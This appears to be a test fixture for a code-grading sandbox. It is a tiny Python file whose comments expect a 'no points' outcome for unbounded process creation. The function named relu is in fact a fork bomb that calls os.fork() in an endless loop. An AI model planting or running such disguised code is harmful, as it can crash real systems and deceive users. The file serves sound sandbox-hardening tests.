# threat: processes are started without end
# stock: -
# outcome: no points
# seconds: 5
# %% relu
import os


def relu(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
